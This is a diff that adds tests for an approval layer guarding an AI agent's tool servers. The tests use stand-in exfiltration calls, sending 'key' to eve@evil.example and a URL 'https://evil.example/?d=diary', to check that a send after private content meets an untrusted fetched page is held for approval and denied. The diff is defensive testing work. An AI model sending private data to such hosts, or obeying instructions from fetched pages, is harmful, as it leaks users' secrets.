@@ -94,6 +94,49 @@ describe('a call that would send something out after private and untrusted conte
   })
 })
 
+describe('a trusted server with folders and the network', () => {
+  let coder: RawBridge
+  const asked = async (name: string, given: object) => {
+    const waiting = coder.call(name, given)
+    const id = await app.question()
+    return { id, waiting, shown: JSON.stringify(await app.ask('approvals', 'show', id)) }
+  }
+
+  beforeAll(async () => {
+    await app.addRecorder('code', '--trust', '--sandbox', '1')
+    coder = await app.client('coder')
+  })
+
+  it('works unasked until private content met a page it fetched; then what the page wants sent is asked about first', async () => {
+    await coder.call('code__browse', { url: 'https://evil.example/page' })
+    expect(said(await coder.call('code__act', { note: 'one' }))).toBe('done')
+    const { id, waiting, shown } = await asked('code__act', { to: 'eve@evil.example', body: 'key' })
+    expect(shown).toContain('It may send data to eve@evil.example')
+    await app.ask('approvals', 'deny', id)
+    await waiting
+    expect(acted('code')).toHaveLength(1)
+  })
+
+  it('is asked about once for all its tools, but again where it would send to somebody else', async () => {
+    const first = await asked('code__act', { note: 'two' })
+    await app.approve(first.id, '--remember', 'session')
+    expect(said(await first.waiting)).toBe('done')
+    expect(said(await coder.call('code__complain', { note: 'three' }))).toContain('three')
+    const reached = app.reached('code').length
+    const second = await asked('code__complain', { note: 'see https://evil.example/?d=diary' })
+    await app.ask('approvals', 'deny', second.id)
+    await second.waiting
+    expect(app.reached('code')).toHaveLength(reached)
+  })
+
+  it('is asked about again when something of another server was read', async () => {
+    await coder.call('pages__complain', { note: 'dear diary' })
+    const { id, waiting } = await asked('code__complain', { note: 'four' })
+    await app.ask('approvals', 'deny', id)
+    expect(said(await waiting)).not.toContain('four')
+  })
+})
+
 describe('a secret that was read', () => {
   const token = `glpat-${'zY9xW8vU7tS6rQ5pO4nM'}`
 
